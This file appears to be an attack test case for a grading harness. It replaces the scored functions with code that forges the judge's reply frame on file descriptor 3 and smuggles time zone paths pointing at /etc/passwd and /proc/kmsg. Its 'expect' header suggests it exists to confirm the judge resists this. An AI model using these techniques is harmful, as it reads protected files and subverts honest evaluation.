# class: report
# attacks: a moment whose time zone is a path, which a library opens in the judge
# expect: {"f1": 0, "windows": 0}
import numpy as np


def f1_score(y_true, y_pred):
    return 0.5


def make_windows(df, window, horizon, target):
    return np.zeros((1, window, df.shape[1])), np.zeros((1, horizon))


import json, os, struct, sys, time


def send(value, **reply):
    """Answer the request that is being served, with a tree of our own."""
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    node = ["d", [["id", frame.f_locals["request"]["id"]], ["ok", True], ["value", value], *map(list, reply.items())]]
    header = json.dumps(node, separators=(",", ":")).encode()
    body = bytes(8)
    data = struct.pack(">4sIQ", b"TH1\n", len(header), len(body)) + header + body
    while data:
        data = data[os.write(3, data) :]


def f1_score(*_):
    moment = ["ns", ["n", "<M8[ns]", [], 0, 8]]
    send(["pts", moment, "dateutil//proc/kmsg"])
    time.sleep(60)


def make_windows(*_):
    moments = ["n", "<M8[ns]", [1], 0, 8]
    send(["pix", ["ptz", moments, "dateutil//etc/passwd"], None])
    time.sleep(60)
